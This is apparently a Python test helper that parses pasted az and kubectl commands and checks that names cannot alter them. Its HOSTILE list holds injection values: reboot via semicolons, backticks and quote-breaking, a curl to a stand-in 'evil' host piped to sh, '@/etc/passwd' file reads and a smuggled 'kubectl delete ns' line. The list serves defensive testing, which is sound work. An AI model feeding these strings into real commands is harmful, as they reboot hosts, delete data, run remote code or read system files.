"""Commands as somebody pastes them: what a shell makes of each line, and which names in it are which option's."""

import re
import shlex

#: Names that end a word, begin a command, look like an option, or are read as a file by az.
HOSTILE = (
    "x; reboot",
    "$(reboot)",
    "`reboot`",
    "a b",
    "x' || reboot '",
    'x" || reboot "',
    "--yes",
    "-x",
    "-",
    "--",
    "-o json",
    "x|sh",
    "&& reboot",
    "demo; curl http://evil|sh #",
    "pool: az aks delete --yes",
    "GROUP' ; reboot #",
    "x GROUP; reboot",
    "POOL",
    "@/etc/passwd",
    "x=@/etc/passwd",
    "two\nlines",
    "two\nkubectl delete ns a",
    "bell\x07",
    "\u202eevil",
    "tab\there",
    "*",
    "~root",
    "!!",
    "",
)
_COMMAND = re.compile(r"(?:^|[:(] )(?P<command>(?:az|kubectl) .*)$")
_LONG = {"--resource-group": "-g", "--name": "-n", "--nodepool-name": "-n", "--location": "-l"}
_INNER = re.compile(r"[a-z0-9][a-z0-9.-]*|NAME|NAMESPACE|-o|-A|--namespace|--ignore-not-found|--all")


def commands_in(text: str) -> list[list[str]]:
    """The words of each command in a text, as a shell takes them; a line holds one, after words that end with a colon.

    ValueError for one that a shell would not end on its line.
    """
    found = [_COMMAND.search(line) for line in text.split("\n")]
    return [shlex.split(match["command"]) for match in found if match]


def prose_in(text: str) -> str:
    """What is left of a text without its commands."""
    return "\n".join(_COMMAND.sub("", line) for line in text.split("\n"))


def options_of(words: list[str]) -> dict[str, str]:
    """The options of a command by their short names, each with its value, as argparse takes them."""
    given: dict[str, str] = {}
    name = ""
    for word in words:
        if word.startswith("-"):
            name, equals, value = word.partition("=")
            # The name of a node pool is -n to the commands about node pools alone; to others that is the cluster.
            if name != "--nodepool-name" or "nodepool" in words:
                name = _LONG.get(name, name)
            given[name] = value
            name = "" if equals else name
        elif name:
            given[name] = f"{given[name]} {word}".strip() if given[name] else word
    return given


def skeleton(words: list[str]) -> tuple[str, ...]:
    """The command without the values of its options, which no name may change. What kubectl gets is looked at too."""
    first = next((number for number, word in enumerate(words) if word.startswith("-")), len(words))
    options = options_of(words)
    line = options.get("--command")
    if line is not None:
        inner = shlex.split(line)
        assert all(_INNER.fullmatch(word) for word in inner), line
    # A file is read only where the pattern itself says so: for one that the person is to name.
    read = [value for value in options.values() if (value.startswith("@") or "=@" in value) and value != "@FILE"]
    assert read == [], words
    return (*words[:first], *options)
